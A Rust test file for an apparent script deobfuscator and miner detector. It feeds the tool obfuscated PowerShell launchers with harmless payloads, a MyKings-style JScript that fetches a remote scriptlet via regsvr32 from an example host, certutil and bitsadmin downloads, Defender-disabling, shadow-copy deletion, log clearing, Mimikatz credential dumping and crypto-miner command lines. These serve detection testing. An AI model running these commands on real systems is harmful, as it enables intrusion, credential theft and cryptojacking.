//! Batch, `VBScript`, `JScript`, scriptlets and miners' own texts, from the command line down to the last layer.

#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "helpers of tests")]

use base64::Engine as _;
use deminer_deobfuscate::{Decoded, Language, Limits, ScriptVerdict, decode};

fn of(text: &str, hint: Language) -> Decoded {
    decode(text, Some(hint), &Limits::default())
}

#[track_caller]
fn shows(decoded: &Decoded, text: &str) {
    assert!(
        decoded.layers.iter().skip(1).any(|layer| layer.text.contains(text)),
        "{text:?} is in none of {:#?}",
        decoded.layers
    );
}

#[track_caller]
fn has(decoded: &Decoded, ids: &[&str]) {
    for id in ids {
        assert!(decoded.traits.iter().any(|hit| hit.id == *id), "{id} is missing: {:?}", decoded.traits);
    }
}

fn wide(text: &str) -> String {
    base64::engine::general_purpose::STANDARD
        .encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

#[test]
fn a_shell_starts_powershell() {
    let encoded = wide("echo plain text");
    for line in [
        "cmd /c powershell -w hidden -c iex 'echo plain text'".to_string(),
        format!("c^m^d /c p^ow^ers^hell -e^n^c {encoded}"),
        format!("cmd.exe /c \"set x=power&&set y=shell&&call %x%%y% -e {encoded}\""),
        format!("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -e {encoded}"),
        "cmd /c echo iex 'echo plain text' ^| powershell -".to_string(),
        format!("/c powershell -w hidden -enc {encoded}"),
        format!("wmic process call create \"powershell -enc {encoded}\""),
        format!("forfiles /p c:\\windows /m notepad.exe /c \"cmd /c powershell -e {encoded}\""),
    ] {
        shows(&of(&line, Language::CommandLine), "echo plain text");
    }
}

/// Each form starts the same encoded command; `E1` stands for the Base64.
#[test]
fn every_way_to_hide_a_program_from_batch() {
    let encoded = wide("echo plain text");
    let files = [
        "@echo off\r\nset x=power\r\nset y=shell\r\n%x%%y% -e E1",
        "@echo off\r\nset \"x=power\"\r\nset \"y=shell\"\r\n%x%%y% -e E1",
        "(set x=power)&(set y=shell)\r\n%x%%y% -e E1",
        "setlocal EnableDelayedExpansion\r\nset x=power\r\nset y=shell\r\n!x!!y! -e E1",
        "set p=powershell\r\n%p% -e E1",
        "set a=ershell\r\npow%a% -e E1",
        "set w=powQershQell\r\n%w:Q=% -e E1",
        "set w=anything+powershell\r\n%w:*+=% -e E1",
        "set a b@c=power\r\n%a b@c%shell -e E1",
        "set /a n=(7-3)*4\r\nset /a m=n/2-8\r\nset s=powershell\r\n%s:~0,8%l%m:~5%%s:~9,1% -e E1",
        "pow^\r\nershell -e E1",
        "powershell -e ^\r\nE1",
        "for /f \"delims=\" %%i in ('echo powershell') do set p=%%i\r\n%p% -e E1",
        "for /f \"tokens=2,3 delims=;\" %%i in (\"x;power;shell\") do %%i%%j -e E1",
        "for /f \"usebackq tokens=1,*\" %%i in ('power shell -e E1') do %%i%%j",
        "for %%i in (power) do (\r\n) \r\nset q=power\r\n%q%shell -e E1",
        "goto :second\r\n:first\r\n%x%%y% -e E1\r\nexit /b\r\n:second\r\nset x=power\r\nset y=shell\r\ngoto :first",
        "if 1==1 (set x=power) \r\nif not 1==2 set y=shell\r\n%x%%y% -e E1",
    ];
    let lines = [
        "pow\"\"ershell -e E1",
        "p\"owersh\"ell -e E1",
        "\"power\"shell -e E1",
        "powershell -\"e\"nc E1",
        "powershell ^\r\n-e E1",
        "cmd /v:on /c \"set x=power&&set y=shell&&!x!!y! -e E1\"",
        "cmd /v /c \"set x=--powershell--&&!x:~2,-2! -e E1\"",
        "cmd /c \"set x=power&&set y=shell&&call %x%%y% -e E1\"",
        "cmd /V:ON /C \"set u=wlpoershx&&for %A in (2 3 0 4 5 6 7 4 1 1 99) do set f=!f!!u:~%A,1!&&if %A==99 call %f:~-10% -e E1\"",
        "cmd /V:ON /C \"set r=llehsrewop&&for /L %a in (9,-1,0) do set f=!f!!r:~%a,1!&&if %a equ 0 call !f! -e E1\"",
        "for /f \"tokens=1,2 delims=,\" %a in (\"power,shell\") do %a%b -e E1",
        "cmd /c \"for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -e E1\"",
    ];
    let mut failed = 0;
    for (form, hint) in files
        .iter()
        .map(|form| (form, Language::Batch))
        .chain(lines.iter().map(|form| (form, Language::CommandLine)))
    {
        let decoded = of(&form.replace("E1", &encoded), hint);
        let all: Vec<_> = decoded.layers.iter().map(|layer| &layer.text).collect();
        if !all.iter().any(|layer| *layer == "echo plain text") {
            println!("{form}\n{all:#?}");
            failed += 1;
        }
    }
    assert_eq!(failed, 0, "forms that are not opened");
}

/// Texts that say little of what they are written in.
#[test]
fn the_language_is_found() {
    let encoded = wide("echo plain text");
    let long: String =
        "o.Run(\"echo plain text\")".bytes().map(|b| format!("{b:02x}")).collect::<Vec<_>>().concat();
    let filler = "20".repeat(20_000);
    for text in [
        "iex ('echo pl'+'ain text # a.exe')".to_owned(),
        format!("pow%abc%ersh%xyz%ell -e {encoded}"),
        format!(
            "s=\"{filler}{long}\"\r\nFor i=1 To Len(s) Step 2\r\nr=r & Chr(\"&H\" & Mid(s,i,2))\r\nNext\r\nExecute r"
        ),
        format!(
            "s='{filler}{long}';r='';for(i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));eval(r);"
        ),
        "Execute(Unescape(\"o.Run(%22echo plain text%22)\"))".to_owned(),
        "var w=WScript.CreateObject('WScript.Shell');w.Run('echo '+'plain text',0);".to_owned(),
    ] {
        let decoded = decode(&text, None, &Limits::default());
        let start: String = text.chars().take(60).collect();
        assert!(decoded.layers.iter().skip(1).any(|layer| layer.text.contains("echo plain text")), "{start}");
    }
    let encoded = decode("#@~^DgAAAA==\\ko$K6,FTZAQAAA==^#~@", None, &Limits::default());
    assert!(encoded.problems.iter().any(|problem| problem.id == "encoded-script"));
}

/// Filling in what a plain file sets is no trait.
#[test]
fn variables_of_plain_batch_files_say_nothing() {
    for text in [
        "@echo off\r\nset PY=python\r\nset ROOT=C:\\App\r\n%PY% %ROOT%\\setup.py build\r\n",
        "@echo off\r\nset VER=1\r\nset NAME=app\r\ncopy %NAME%-%VER%.zip \\\\server\\share\\%NAME%%VER%.zip\r\n",
        "@echo off\r\nfor %%f in (a b c) do (\r\n  echo %%f\r\n)\r\nfor /f \"tokens=2 delims=:\" %%i in ('ipconfig') do echo %%i\r\n",
        "@echo off\r\nset /a n=1+2\r\nif %n%==3 (echo three) else echo other\r\necho 100%% done, 50% off & echo \"a\"b\r\n",
    ] {
        let decoded = of(text, Language::Batch);
        assert!(decoded.traits.is_empty(), "{text}: {:?}", decoded.traits);
        assert_eq!(decoded.verdict, ScriptVerdict::Benign);
    }
}

#[test]
fn a_block_writes_a_script() {
    for text in [
        "(echo Set s = CreateObject^(\"WScript.Shell\"^) & echo s.Run \"cal\" ^& \"c 1\", 0)>%temp%\\t.vbs",
        "@echo off\r\n(\r\necho Set s = CreateObject(\"WScript.Shell\")\r\necho s.Run \"cal\" ^& \"c 1\", 0\r\n)>%temp%\\t.vbs\r\n",
    ] {
        let decoded = of(text, Language::Batch);
        assert!(
            decoded.layers.iter().any(|layer| layer.language == Language::VbScript),
            "{:#?}",
            decoded.layers
        );
        shows(&decoded, "calc 1");
    }
}

#[test]
fn a_batch_file_writes_a_script() {
    let decoded = of(
        "@echo off\r\nset a=%temp%\\t.vbs\r\necho Set s = CreateObject(\"WScript.Shell\") > %temp%\\t.vbs\r\necho s.Run \"power\" ^& \"shell -w hidden -c calc\", 0 >> %temp%\\t.vbs\r\ncscript %temp%\\t.vbs\r\n",
        Language::Batch,
    );
    assert!(decoded.layers.iter().any(|layer| layer.language == Language::VbScript && layer.how == "echo"));
    shows(&decoded, "powershell -w hidden -c calc");
    has(&decoded, &["hidden-window"]);
}

/// A consumer's script of the kind that `MyKings` leaves: a list is fetched, processes end, a scriptlet is registered
/// straight from an address.
#[test]
fn jscript_consumer_with_remote_scriptlet() {
    let script = r#"var toff=3000;var url1="http://wmi.exam"+"ple.net:8888/kill.html";http=new ActiveXObject("Msxml2.ServerXMLHTTP");
fso=new ActiveXObject("Scripting.FilesystemObject");wsh=new ActiveXObject("WScript.Shell");http.open("GET",url1,false);http.send();
str=http.responseText;arr=str.split("\r\n");for(i=0;i<arr.length;i++){t=arr[i].split(" ");proc=t[0];path=t[1];dele=t[2];wsh.Run("taskkill /f /im "+proc,0,true);}
wsh.Run("regsvr32 /u /s /i:http://js.exam"+"ple.net:280/v.sct scr"+"obj.dll",0);wsh.Run("rundll32.exe c:\\windows\\debug\\item.dat,ServiceMain aaaa",0);"#;
    let decoded = of(script, Language::JScript);
    shows(&decoded, "regsvr32 /u /s /i:http://js.example.net:280/v.sct scrobj.dll");
    has(&decoded, &["remote-scriptlet", "hidden-window", "download-cradle"]);
    assert!(decoded.verdict >= ScriptVerdict::Malicious);
    let values: Vec<&str> = decoded.indicators.iter().map(|i| i.value.as_str()).collect();
    for wanted in
        ["http://wmi.example.net:8888/kill.html", "js.example.net:280", "http://js.example.net:280/v.sct"]
    {
        assert!(values.contains(&wanted), "{wanted} is not in {values:?}");
    }
}

#[test]
fn scriptlets_and_applications() {
    let sct = "<?XML version=\"1.0\"?><scriptlet><registration progid=\"a\" classid=\"{00000000-0000-0000-0000-000000000000}\"><script language=\"JScript\"><![CDATA[var r=new ActiveXObject('WScript.Shell').Run('cmd.exe /c powershell -e ZQBjAGgAbwAgADEA',0);]]></script></registration></scriptlet>";
    let decoded = decode(sct, None, &Limits::default());
    assert_eq!(decoded.layers[0].language, Language::Html);
    assert_eq!(decoded.layers[1].language, Language::JScript);
    shows(&decoded, "echo 1");
    let hta = "<html><head><HTA:APPLICATION ID=\"x\"/><script language=\"VBScript\">\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run StrReverse(\"1 ohce c/ dmc\"), 0\r\n</script></head></html>";
    shows(&decode(hta, None, &Limits::default()), "cmd /c echo 1");
    shows(
        &of(
            "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -c calc 1\"\", 0\")(window.close)",
            Language::CommandLine,
        ),
        "calc 1",
    );
    has(&of("mshta.exe http://a.example.com/x.hta", Language::CommandLine), &["remote-scriptlet"]);
}

#[test]
fn miners_are_called_miners() {
    let wallet =
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
    let cases = [
        format!("C:\\ProgramData\\x.exe -o stratum+tcp://pool.example.com:3333 -u {wallet} -p x"),
        format!(
            "svchost.exe --donate-level=1 --cpu-max-threads-hint 50 -o pool.example.com:443 -u {wallet} -k"
        ),
        format!("a.exe -a rx/0 -o pool.example.com:14444 -u {wallet} --nicehash"),
        format!(
            "{{\"autosave\":true,\"donate-level\":1,\"cpu\":{{\"max-threads-hint\":75}},\"randomx\":{{\"1gb-pages\":false}},\"pools\":[{{\"url\":\"pool.example.com:443\",\"user\":\"{wallet}\"}}]}}"
        ),
        format!(
            "$l='{{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{{\"login\":\"{wallet}\",\"pass\":\"x\",\"agent\":\"a\"}}}}'"
        ),
        // Under any name, without an option that only miners have.
        format!("svchost.exe -o pool.example.com:3333 -u {wallet} -p x"),
        format!("svchost.exe -o pool.example.com:3333 -u {wallet} -p x -k"),
        format!("C:\\Windows\\Temp\\dllhost.exe --url pool.example.com:3333 --user {wallet}.w1 --tls"),
        format!("cmd /c start /min x.exe -o 203.0.113.5:443 -u {wallet}+20000 -p x"),
        format!("x.exe -o stratum://pool.example.com:3333 -u {wallet}"),
        format!("x.exe -o stratum2+tcp://pool.example.com:3333 -u {wallet}"),
        format!("{{\"pools\":[{{\"url\":\"pool.example.com:3333\",\"user\":\"{wallet}\"}}]}}"),
    ];
    for text in &cases {
        let decoded = decode(text, None, &Limits::default());
        assert_eq!(decoded.verdict, ScriptVerdict::Miner, "{text}: {:?}", decoded.traits);
        assert!(decoded.indicators.iter().any(|i| i.value == wallet));
        let pool = decoded.indicators.iter().any(|i| i.kind.as_str() == "pool");
        assert!(pool || text.contains("jsonrpc"), "{text}: {:?}", decoded.indicators);
    }
    // A wallet alone, an option alone, the word alone: no miner.
    for text in [
        wallet.to_owned(),
        "x --keepalive --algo md5".to_owned(),
        "tar --algo sha256 -o out.example.com:80".to_owned(),
        "curl --url www.example.com:8080 -u me:word -p".to_owned(),
        "ssh -o ProxyCommand=x -p 22 -u me".to_owned(),
        "{\"pools\":[{\"url\":\"db.example.com:5432\",\"user\":\"app\",\"pass\":\"x\"}]}".to_owned(),
        "NTP stratum+ xmr xmrig".to_owned(),
    ] {
        assert_ne!(decode(&text, None, &Limits::default()).verdict, ScriptVerdict::Miner, "{text}");
    }
}

#[test]
fn changes_to_the_machine_are_seen() {
    let cases: &[(&str, &[&str])] = &[
        (
            "netsh interface portproxy add v4tov4 listenport=65529 connectaddress=192.0.2.1 connectport=53",
            &["portproxy"],
        ),
        ("netsh ipsec static add filteraction name=block action=block", &["ipsec-block"]),
        ("netsh advfirewall set allprofiles state off", &["firewall-tamper"]),
        ("powershell Add-MpPreference -ExclusionPath C:\\", &["defender-exclusion"]),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", &["defender-disabled"]),
        ("cmd /c wmic product where \"name like '%Eset%'\" call uninstall /nointeractive", &["av-uninstall"]),
        ("vssadmin.exe delete shadows /all /quiet", &["shadow-copy-delete"]),
        ("route add 203.0.113.9 0.0.0.0 IF 1 -p", &["persistent-route"]),
        ("certutil -urlcache -split -f http://a.example.com/x.exe x.exe", &["lolbin-download"]),
        ("bitsadmin /transfer j http://a.example.com/x.exe c:\\x.exe", &["lolbin-download"]),
        ("sc create WinRing0_1_2_0 type= kernel binPath= C:\\x.sys", &["service-create"]),
        ("wevtutil cl Security", &["event-log-clear"]),
        (
            "schtasks /create /ru system /sc MINUTE /mo 60 /tn blackball /tr blackball /f",
            &["scheduled-task-create"],
        ),
        (
            "powershell -c \"privilege::debug; Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\"",
            &["credential-theft"],
        ),
    ];
    for (line, ids) in cases {
        has(&of(line, Language::CommandLine), ids);
    }
    let killer = "schtasks /delete /tn Mysa /f & schtasks /delete /tn Mysa1 /f & sc delete xWinWpdSrv & taskkill /im minerd.exe /f & taskkill /im lsmosee.exe /f";
    has(&of(killer, Language::Batch), &["rival-killer"]);
    let subscription = "$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'}; Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='y'}";
    has(&of(subscription, Language::PowerShell), &["wmi-subscription-create"]);
}

#[test]
fn the_json_is_that_of_the_contract() {
    let decoded = of("powershell -e ZQBjAGgAbwAgADEA; echo http://a.example.com/", Language::CommandLine);
    let json = serde_json::to_value(&decoded).unwrap();
    assert_eq!(
        json["layers"][1],
        serde_json::json!({"how": "base64-utf16", "language": "powershell", "text": "echo 1", "from": 0})
    );
    assert_eq!(
        json["indicators"][0],
        serde_json::json!({"type": "url", "value": "http://a.example.com/", "layer": 0})
    );
    assert_eq!(json["verdict"], "benign");
    for language in [
        Language::PowerShell,
        Language::Batch,
        Language::VbScript,
        Language::JScript,
        Language::Html,
        Language::CommandLine,
        Language::Binary,
        Language::Unknown,
    ] {
        assert_eq!(serde_json::to_value(language).unwrap(), language.as_str());
    }
}
